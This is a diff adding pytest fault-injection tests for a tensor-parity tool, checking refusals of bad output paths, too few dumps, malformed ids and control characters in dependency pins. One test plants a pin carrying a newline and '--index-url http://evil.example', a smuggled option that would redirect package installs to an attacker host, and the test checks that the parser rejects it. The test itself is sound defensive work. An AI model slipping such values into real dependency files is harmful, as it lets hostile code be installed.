@@ -1,0 +1,64 @@
+"""Fault injection: a bad input or output is found up front, named, and never read as a divergence.
+
+Each test plants one fault and asserts the exit code and that the message names the file and the
+cause. Fast: synthetic dumps only.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from wgan_parity import synthetic
+from wgan_parity.cli import main
+from wgan_parity.envtable import TableError, parse_table
+from wgan_parity.exitcodes import ExitCode
+
+
+def _two_dumps(folder: Path) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    rng = np.random.default_rng(0)
+    tensors = {"blk.case/out": rng.standard_normal((2, 3)).astype(np.float32)}
+    synthetic.write(folder / "a.npz", "env-a", tensors)
+    synthetic.write(folder / "b.npz", "env-b", tensors)
+    return folder
+
+
+def test_an_out_that_is_a_file_is_refused_before_any_work(tmp_path, capsys) -> None:
+    inputs = _two_dumps(tmp_path / "d")
+    taken = tmp_path / "taken"
+    taken.write_text("a file, not a folder")
+    assert main(["aggregate", str(inputs), "--out", str(taken), "--quiet"]) == ExitCode.USAGE
+    err = capsys.readouterr().err
+    assert str(taken) in err
+    assert "cannot write there" in err
+    assert taken.read_text() == "a file, not a folder"  # nothing of ours written over it
+    below = taken / "sub"
+    assert main(["aggregate", str(inputs), "--out", str(below), "--quiet"]) == ExitCode.USAGE
+
+
+def test_fewer_than_two_dumps_is_a_usage_error(tmp_path, capsys) -> None:
+    inputs = _two_dumps(tmp_path / "d")
+    (inputs / "b.npz").unlink()
+    code = main(["aggregate", str(inputs), "--out", str(tmp_path / "out"), "--quiet"])
+    assert code == ExitCode.USAGE
+    assert "expected at least two dumps" in capsys.readouterr().err
+    assert not (tmp_path / "out" / "pairs.csv").exists()
+
+
+@pytest.mark.parametrize("field", ["pins", "extra"])
+def test_control_characters_in_a_pin_are_refused_when_the_table_loads(field, tmp_path) -> None:
+    row = {"id": "torch-x", "framework": "torch", "pins": ["torch==2.4.1"], "sets": ["default"]}
+    row[field] = ["torch==2.4.1\n--index-url http://evil.example"]
+    data = {"schema": 1, "sets": {"default": "d"}, "matrix": {"env": [row]}}
+    with pytest.raises(TableError, match="control characters"):
+        parse_table(data, tmp_path / "matrix.toml")
+
+
+def test_an_id_with_a_trailing_newline_is_refused(tmp_path) -> None:
+    row = {"id": "torch-x\n", "framework": "torch", "pins": ["torch==2.4.1"], "sets": ["default"]}
+    data = {"schema": 1, "sets": {"default": "d"}, "matrix": {"env": [row]}}
+    with pytest.raises(TableError, match="expected `id`"):
+        parse_table(data, tmp_path / "matrix.toml")
